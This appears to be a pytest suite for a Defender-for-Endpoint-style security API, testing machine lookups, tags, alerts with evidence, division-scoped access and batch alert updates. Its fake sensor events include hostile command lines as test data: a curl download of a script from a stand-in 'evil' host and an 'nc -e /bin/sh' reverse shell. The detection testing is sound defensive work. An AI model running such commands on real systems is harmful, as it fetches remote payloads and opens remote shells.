"""Investigation API: machines (tags, device value, find*), alerts raised by reference on stored
events, their related entities, scope for users of different divisions, and MDE's shapes."""
import time
import uuid

import pytest

from conftest import assert_mde_error
from shapes import assert_shape
from test_ingest import FakeSensor, onboarding_info, wait_for

PASSWORD = "Correct-Horse-42!"


@pytest.fixture(scope="module")
def env(ward, admin_token):
    tag = uuid.uuid4().hex[:6]

    def api(method, path, body=None, token=admin_token):
        r = ward.request(method, path, token, json=body)
        assert r.status_code in (200, 201, 204), f"{method} {path}: {r.status_code} {r.text}"
        return r.json() if r.content else None

    users = {n: api("POST", "/api/users", {"userPrincipalName": f"{n}-{tag}@corp.example", "password": PASSWORD})
             for n in ("alice", "bob", "reader")}
    groups = {n: api("POST", "/api/rbac/usergroups", {"name": f"{n}-{tag}", "members": [users[n]["id"]]})
              for n in users}
    api("POST", "/api/rbac/roles", {"name": f"analyst-{tag}", "permissions": ["ViewData", "AlertsInvestigation"],
                                     "assignedUserGroups": [groups["alice"]["id"], groups["bob"]["id"]]})
    api("POST", "/api/rbac/roles", {"name": f"reader-{tag}", "permissions": ["ViewData"],
                                     "assignedUserGroups": [groups["reader"]["id"]]})
    dg_a = api("POST", "/api/rbac/devicegroups", {"name": f"inv-A-{tag}", "rank": 1, "rules": {"name": [f"inva-{tag}-*"]},
                                                   "userGroups": [groups["alice"]["id"], groups["reader"]["id"]]})
    dg_b = api("POST", "/api/rbac/devicegroups", {"name": f"inv-B-{tag}", "rank": 2, "rules": {"name": [f"invb-{tag}-*"]},
                                                   "userGroups": [groups["bob"]["id"]]})
    info = onboarding_info(ward, admin_token)
    a = FakeSensor(ward, info, name=f"inva-{tag}-web01.corp.local")
    b = FakeSensor(ward, info, name=f"invb-{tag}-db01.corp.local")
    a.enroll()
    b.enroll()
    marker = f"inv{tag}"
    sha1, sha256 = "a" * 38 + tag[:2], "b" * 62 + tag[:2]
    proc = a.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="curl", FolderPath="/usr/bin/curl",
                   ProcessCommandLine=f"curl -s http://evil-{marker}.example/x.sh", ProcessId=4242, SHA1=sha1,
                   SHA256=sha256, AccountName="alice", AccountDomain="corp", InitiatingProcessFileName="bash",
                   InitiatingProcessId=4000)
    net = a.event("DeviceNetworkEvents", ActionType="ConnectionSuccess", RemoteIP="198.51.100.7", RemotePort=80,
                  RemoteUrl=f"http://evil-{marker}.example/x.sh", LocalIP="10.20.30.40", LocalPort=50123,
                  Protocol="Tcp", InitiatingProcessFileName="curl", InitiatingProcessId=4242,
                  InitiatingProcessAccountName="alice")
    info_a = a.event("DeviceNetworkInfo", NetworkAdapterName="eth0",
                     IPAddresses='[{"IPAddress":"10.20.30.40","SubnetPrefix":24,"AddressType":"Private"}]')
    assert a.send([proc, net, info_a]).json()["accepted"] == 3
    bproc = b.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="nc", FolderPath="/usr/bin/nc",
                    ProcessCommandLine=f"nc -e /bin/sh 203.0.113.9 4444 {marker}", ProcessId=777, AccountName="root")
    assert b.send([bproc]).json()["accepted"] == 1
    assert wait_for(lambda: ward.get(f"/api/machines/{b.device_id}/timeline?search={marker}", admin_token).json()["value"])
    assert wait_for(lambda: len(ward.get(f"/api/machines/{a.device_id}/timeline?search={marker}",
                                         admin_token).json()["value"]) >= 2)
    tokens = {n: ward.user_token(u["userPrincipalName"], PASSWORD) for n, u in users.items()}
    return {"tag": tag, "api": api, "a": a, "b": b, "proc": proc, "net": net, "bproc": bproc, "sha1": sha1,
            "marker": marker, "tokens": tokens, "dg_a": dg_a, "dg_b": dg_b}


def create_alert(ward, token, sensor, event, title, severity="High", category="Execution"):
    return ward.post("/api/alerts/CreateAlertByReference", token, json={
        "eventTime": event["Timestamp"], "reportId": event["ReportId"], "machineId": sensor.device_id,
        "severity": severity, "title": title, "description": "raised by the e2e test",
        "recommendedAction": "Isolate the device", "category": category})


def test_machine_shape_and_lookup_by_name(ward, admin_token, env):
    a = env["a"]
    m = ward.get(f"/api/machines/{a.device_id}", admin_token).json()
    assert m["@odata.context"].endswith("/api/$metadata#Machines/$entity")
    assert_shape("Machine", m, extra_ok=["@odata.context"])
    for ip in m["ipAddresses"]:
        assert_shape("MachineIpAddress", ip)
    assert m["rbacGroupId"] == env["dg_a"]["id"] and m["rbacGroupName"] == env["dg_a"]["name"]
    by_name = ward.get(f"/api/machines/{a.name}", admin_token).json()
    assert by_name["id"] == a.device_id
    # Sub-routes take the computer name too (looked up in the machine catalog).
    by_id_alerts = ward.get(f"/api/machines/{a.device_id}/alerts", admin_token)
    by_name_alerts = ward.get(f"/api/machines/{a.name.upper()}/alerts", admin_token)
    assert by_name_alerts.status_code == 200 and by_name_alerts.json()["value"] == by_id_alerts.json()["value"]
    assert ward.get("/api/machines/no-such-host.corp.local/alerts", admin_token).status_code == 404
    listed = ward.get("/api/machines", admin_token).json()["value"]
    for item in listed:
        assert_shape("Machine", item)


def test_alert_by_reference_with_evidence_and_related_entities(ward, admin_token, env):
    a = env["a"]
    r = create_alert(ward, admin_token, a, env["proc"], f"Suspicious download {env['tag']}")
    assert r.status_code == 200, r.text
    alert = r.json()
    assert_shape("Alert", alert, extra_ok=["@odata.context"])
    assert alert["machineId"] == a.device_id and alert["severity"] == "High" and alert["status"] == "New"
    assert alert["relatedUser"] == {"userName": "alice", "domainName": "corp"}
    kinds = {e["entityType"] for e in alert["evidence"]}
    assert {"Process", "File", "User"} <= kinds
    for e in alert["evidence"]:
        assert_shape("AlertEvidence", e)
    process = next(e for e in alert["evidence"] if e["entityType"] == "Process")
    assert process["sha1"] == env["sha1"] and process["processId"] == 4242
    assert process["processCommandLine"] == env["proc"]["ProcessCommandLine"]
    assert process["parentProcessId"] == 4000 and process["parentProcessFileName"] == "bash"

    # The same title on the same device merges; a network event adds IP and URL evidence.
    merged = create_alert(ward, admin_token, a, env["net"], f"Suspicious download {env['tag']}").json()
    assert merged["id"] == alert["id"]
    assert {"Ip", "Url"} <= {e["entityType"] for e in merged["evidence"]}
    ips = ward.get(f"/api/alerts/{alert['id']}/ips", admin_token).json()
    assert ips["@odata.context"].endswith("#Ips") and ips["value"] == [{"id": "198.51.100.7"}]
    domains = ward.get(f"/api/alerts/{alert['id']}/domains", admin_token).json()
    assert domains["value"] == [{"host": f"evil-{env['marker']}.example"}]
    machine = ward.get(f"/api/alerts/{alert['id']}/machine", admin_token).json()
    assert machine["id"] == a.device_id and machine["riskScore"] == "High" and machine["exposureLevel"] == "High"

    # Lists do not expand evidence unless asked; the single GET does.
    listed = ward.get(f"/api/alerts?$filter=id eq '{alert['id']}'", admin_token).json()["value"]
    assert len(listed) == 1 and listed[0]["evidence"] == []
    expanded = ward.get(f"/api/alerts?$filter=id eq '{alert['id']}'&$expand=evidence", admin_token).json()["value"]
    assert len(expanded[0]["evidence"]) == len(merged["evidence"])
    assert len(ward.get(f"/api/alerts/{alert['id']}", admin_token).json()["evidence"]) == len(merged["evidence"])
    assert_mde_error(ward.get("/api/alerts?$expand=machine", admin_token), 400, "ODataError")
    # Detection may have raised alerts of its own on these events (Sigma rules): count what is there.
    on_device = ward.get(f"/api/machines/{a.device_id}/alerts", admin_token).json()["value"]
    assert alert["id"] in [x["id"] for x in on_device] and all(x["machineId"] == a.device_id for x in on_device)
    def count_matches_list():  # detection runs on its own consumer: let it settle
        listed = ward.get(f"/api/machines/{a.device_id}/alerts", admin_token).json()["value"]
        count = ward.get(f"/api/machines/{a.device_id}/alerts/$count?$filter=status ne 'Resolved'", admin_token)
        return count.status_code == 200 and count.text == str(len(listed))
    assert wait_for(count_matches_list, 10)
    assert ward.get(f"/api/machines/{a.device_id}/alerts/$count?$filter=status eq 'Resolved'", admin_token).text == "0"
    only_ours = ward.get(f"/api/machines/{a.device_id}/alerts/$count?$filter=detectionSource eq 'CustomDetection'",
                         admin_token)
    assert only_ours.text == "1"
    files = ward.get(f"/api/alerts/{alert['id']}/files", admin_token).json()
    assert files["@odata.context"].endswith("#Files")
    assert [f["sha1"] for f in files["value"]] == [env["sha1"]]
    assert files["value"][0]["sha256"] == env["proc"]["SHA256"] and files["value"][0]["globalPrevalence"] == 1
    user = ward.get(f"/api/alerts/{alert['id']}/user", admin_token).json()
    assert user["@odata.context"].endswith("#Users/$entity")
    assert user["accountName"] == "alice" and user["accountDomain"] == "corp"


def test_create_alert_by_reference_bad_input(ward, admin_token, env):
    a = env["a"]
    good = {"eventTime": env["proc"]["Timestamp"], "reportId": env["proc"]["ReportId"], "machineId": a.device_id,
            "severity": "Low", "title": "t", "description": "d", "recommendedAction": "r", "category": "Execution"}
    for field in good:
        body = dict(good)
        del body[field]
        assert_mde_error(ward.post("/api/alerts/CreateAlertByReference", admin_token, json=body), 400,
                         "MissingRequiredParameter")
    assert_mde_error(ward.post("/api/alerts/CreateAlertByReference", admin_token, json=dict(good, severity="Severe")),
                     400, "InvalidInput")
    assert_mde_error(ward.post("/api/alerts/CreateAlertByReference", admin_token, json=dict(good, category="Nope")),
                     400, "InvalidInput")
    assert_mde_error(ward.post("/api/alerts/CreateAlertByReference", admin_token, json=dict(good, reportId=999999)),
                     404, "ResourceNotFound")
    assert_mde_error(ward.post("/api/alerts/CreateAlertByReference", admin_token, json=dict(good, machineId="f" * 40)),
                     404, "ResourceNotFound")
    assert_mde_error(ward.get("/api/alerts/da000_0", admin_token), 404, "ResourceNotFound")


def test_tags_device_value_and_findbytag(ward, admin_token, env):
    a, tag = env["a"], env["tag"]
    m = ward.post(f"/api/machines/{a.device_id}/tags", admin_token, json={"Value": f"vip-{tag}", "Action": "Add"}).json()
    assert f"vip-{tag}" in m["machineTags"]
    found = ward.get(f"/api/machines/findbytag?tag=vip-{tag}", admin_token).json()["value"]
    assert [x["id"] for x in found] == [a.device_id]
    found = ward.get(f"/api/machines/findbytag?tag=vip-&useStartsWithFilter=true", admin_token).json()["value"]
    assert a.device_id in [x["id"] for x in found]
    exact = ward.get("/api/machines/findbytag?tag=vip-", admin_token).json()["value"]
    assert a.device_id not in [x["id"] for x in exact]  # without useStartsWithFilter the tag must match exactly
    m = ward.post(f"/api/machines/{a.device_id}/setDeviceValue", admin_token, json={"DeviceValue": "High"}).json()
    assert m["deviceValue"] == "High"
    m = ward.request("PATCH", f"/api/machines/{a.device_id}", admin_token,
                     json={"machineTags": [f"x-{tag}", f"y-{tag}"], "deviceValue": "Low"}).json()
    assert set(m["machineTags"]) >= {f"x-{tag}", f"y-{tag}"} and f"vip-{tag}" not in m["machineTags"]
    assert m["deviceValue"] == "Low"
    bulk = ward.post("/api/machines/AddOrRemoveTagForMultipleMachines", admin_token,
                     json={"Value": f"bulk-{tag}", "Action": "Add", "MachineIds": [a.device_id, env["b"].device_id]})
    assert bulk.status_code == 200, bulk.text
    assert all(f"bulk-{tag}" in x["machineTags"] for x in bulk.json()["value"])
    # Persisted (and not overwritten by the profile updater's next write).
    env["a"].send([env["a"].event("DeviceInfo", OSPlatform="Linux", OSVersion="12", ClientVersion="0.3")])
    time.sleep(1.5)
    m = ward.get(f"/api/machines/{a.device_id}", admin_token).json()
    assert f"bulk-{tag}" in m["machineTags"] and m["deviceValue"] == "Low"
    # Bad input.
    assert_mde_error(ward.post(f"/api/machines/{a.device_id}/tags", admin_token, json={"Value": "x", "Action": "Toggle"}),
                     400, "InvalidInput")
    assert_mde_error(ward.post(f"/api/machines/{a.device_id}/tags", admin_token, json={"value": "x", "Action": "Add"}),
                     400, "MissingRequiredParameter")
    assert_mde_error(ward.post(f"/api/machines/{a.device_id}/setDeviceValue", admin_token, json={"DeviceValue": "Max"}),
                     400, "InvalidInput")
    assert_mde_error(ward.request("PATCH", f"/api/machines/{a.device_id}", admin_token, json={"machineTags": "x"}),
                     400, "InvalidRequestBody")
    assert_mde_error(ward.post("/api/machines/AddOrRemoveTagForMultipleMachines", admin_token,
                               json={"Value": "x", "Action": "Add", "MachineIds": ["f" * 40] * 501}),
                     400, "MaximumBatchSizeExceeded")
    assert_mde_error(ward.post("/api/machines/AddOrRemoveTagForMultipleMachines", admin_token,
                               json={"Value": "x", "Action": "Add", "MachineIds": ["f" * 40]}), 404, "ResourceNotFound")


def test_findbyip_and_find(ward, admin_token, env):
    a = env["a"]
    now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    found = ward.get(f"/api/machines/findbyip(ip='10.20.30.40',timestamp={now})", admin_token).json()["value"]
    assert [m["id"] for m in found] == [a.device_id]
    old = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() - 3 * 3600))
    assert ward.get(f"/api/machines/findbyip(ip='10.20.30.40',timestamp={old})", admin_token).json()["value"] == []
    found = ward.get(f"/api/machines/find(timestamp={now},key='10.20.30.40')", admin_token).json()["value"]
    assert [m["id"] for m in found] == [a.device_id]
    assert_mde_error(ward.get(f"/api/machines/find(timestamp={old},key='10.20.30.40')", admin_token), 404,
                     "ResourceNotFound")
    ancient = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() - 40 * 86400))
    assert_mde_error(ward.get(f"/api/machines/findbyip(ip='10.20.30.40',timestamp={ancient})", admin_token), 400,
                     "InvalidInput")
    assert_mde_error(ward.get(f"/api/machines/findbyip(ip='10.20.300.40',timestamp={now})", admin_token), 400,
                     "InvalidIpAddress")
    assert_mde_error(ward.get(f"/api/machines/findbyip(ip='10.20.30.40')", admin_token), 400, "MissingRequiredParameter")


def test_scope_of_divisions(ward, admin_token, env):
    a, b, tag, tokens = env["a"], env["b"], env["tag"], env["tokens"]
    rb = create_alert(ward, admin_token, b, env["bproc"], f"Reverse shell {tag}")
    ra = create_alert(ward, admin_token, a, env["proc"], f"Suspicious download {tag}")
    assert rb.status_code == 200 and ra.status_code == 200, (rb.text, ra.text)
    alert_a, alert_b = ra.json(), rb.json()

    def ids(path, token):
        r = ward.get(path, token)
        assert r.status_code == 200, r.text
        return {x["id"] for x in r.json()["value"]}

    assert {a.device_id, b.device_id} <= ids("/api/machines", admin_token)
    assert {alert_a["id"], alert_b["id"]} <= ids("/api/alerts", admin_token)
    # Alice (division A) sees only A's device and alert; Bob only B's.
    assert a.device_id in ids("/api/machines", tokens["alice"]) and b.device_id not in ids("/api/machines", tokens["alice"])
    assert alert_a["id"] in ids("/api/alerts", tokens["alice"]) and alert_b["id"] not in ids("/api/alerts", tokens["alice"])
    assert alert_b["id"] in ids("/api/alerts", tokens["bob"]) and alert_a["id"] not in ids("/api/alerts", tokens["bob"])
    assert_mde_error(ward.get(f"/api/alerts/{alert_b['id']}", tokens["alice"]), 404, "ResourceNotFound")
    assert_mde_error(ward.get(f"/api/machines/{b.device_id}/alerts", tokens["alice"]), 404, "ResourceNotFound")
    assert_mde_error(ward.get(f"/api/alerts/{alert_b['id']}/machine", tokens["alice"]), 404, "ResourceNotFound")
    assert ward.get(f"/api/alerts/{alert_a['id']}", tokens["alice"]).status_code == 200
    # Scoped find*: Bob does not find A's device by its IP.
    now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    assert ward.get(f"/api/machines/findbyip(ip='10.20.30.40',timestamp={now})", tokens["bob"]).json()["value"] == []
    # The reader may read but not change or raise alerts.
    assert_mde_error(ward.post(f"/api/machines/{a.device_id}/tags", tokens["reader"], json={"Value": "x", "Action": "Add"}),
                     403, "Forbidden")
    assert_mde_error(create_alert(ward, tokens["reader"], a, env["proc"], "nope"), 403, "Forbidden")
    # Bob cannot tag A's device (404: he must not learn it exists).
    assert_mde_error(ward.post(f"/api/machines/{a.device_id}/tags", tokens["bob"], json={"Value": "x", "Action": "Add"}),
                     404, "ResourceNotFound")


def test_machine_actions_and_indicators_read_side(ward, admin_token):
    r = ward.get("/api/machineactions", admin_token)
    assert r.status_code == 200 and r.json()["@odata.context"].endswith("#MachineActions")
    assert_mde_error(ward.get(f"/api/machineactions/{uuid.uuid4()}", admin_token), 404, "ResourceNotFound")
    r = ward.get("/api/indicators?$filter=indicatorType eq 'FileSha1'", admin_token)
    assert r.status_code == 200 and r.json()["@odata.context"].endswith("#Indicators")
    assert_mde_error(ward.get("/api/indicators?$filter=nosuch eq 1", admin_token), 400, "ODataError")


def test_alert_updates_and_batch_update(ward, admin_token, env):
    a, tag = env["a"], env["tag"]
    alert = create_alert(ward, admin_token, a, env["proc"], f"Update me {tag}", severity="Medium").json()
    url = f"/api/alerts/{alert['id']}"
    r = ward.request("PATCH", url, admin_token, json={"status": "InProgress", "assignedTo": "secop@corp.example",
                                                        "comment": "looking"})
    assert r.status_code == 200, r.text
    body = r.json()
    assert_shape("Alert", body, extra_ok=["@odata.context"])
    assert body["status"] == "InProgress" and body["assignedTo"] == "secop@corp.example"
    assert body["comments"][0]["comment"] == "looking" and body["comments"][0]["createdTime"]
    r = ward.request("PATCH", url, admin_token, json={"status": "Resolved", "classification": "FalsePositive",
                                                        "determination": "NotMalicious"}).json()
    assert r["status"] == "Resolved" and r["resolvedTime"] and r["determination"] == "NotMalicious"
    # Old spelling of the classification is accepted; a determination of another classification is not.
    r = ward.request("PATCH", url, admin_token, json={"classification": "Informational, expected activity",
                                                        "determination": "ConfirmedActivity"})
    assert r.status_code == 200 and r.json()["classification"] == "InformationalExpectedActivity", r.text
    assert_mde_error(ward.request("PATCH", url, admin_token, json={"determination": "Malware"}), 400, "InvalidInput")
    assert_mde_error(ward.request("PATCH", url, admin_token, json={"status": "Closed"}), 400, "InvalidInput")
    assert_mde_error(ward.request("PATCH", url, admin_token, json={"Status": "New"}), 400, "InvalidRequestBody")
    assert_mde_error(ward.request("PATCH", "/api/alerts/da0_0", admin_token, json={"status": "New"}), 404,
                     "ResourceNotFound")
    assert_mde_error(ward.request("PATCH", url, env["tokens"]["reader"], json={"status": "New"}), 403, "Forbidden")
    assert_mde_error(ward.request("PATCH", url, env["tokens"]["bob"], json={"status": "New"}), 404, "ResourceNotFound")

    other = create_alert(ward, admin_token, a, env["net"], f"Second {tag}", severity="Low").json()
    r = ward.post("/api/alerts/batchUpdate", admin_token, json={"alertIds": [alert["id"], other["id"]], "status": "New",
                                                                "comment": "reopened"})
    assert r.status_code == 200, r.text
    for i in (alert["id"], other["id"]):
        got = ward.get(f"/api/alerts/{i}", admin_token).json()
        assert got["status"] == "New" and got["resolvedTime"] is None and got["comments"][-1]["comment"] == "reopened"
    # All or none: an unknown id changes nothing.
    r = ward.post("/api/alerts/batchUpdate", admin_token, json={"alertIds": [alert["id"], "da0_0"], "status": "Resolved"})
    assert_mde_error(r, 404, "ResourceNotFound")
    assert ward.get(f"/api/alerts/{alert['id']}", admin_token).json()["status"] == "New"
    assert_mde_error(ward.post("/api/alerts/batchUpdate", admin_token, json={"status": "New"}), 400,
                     "MissingRequiredParameter")
    assert_mde_error(ward.post("/api/alerts/batchUpdate", admin_token, json={"alertIds": ["x"] * 501, "status": "New"}),
                     400, "MaximumBatchSizeExceeded")
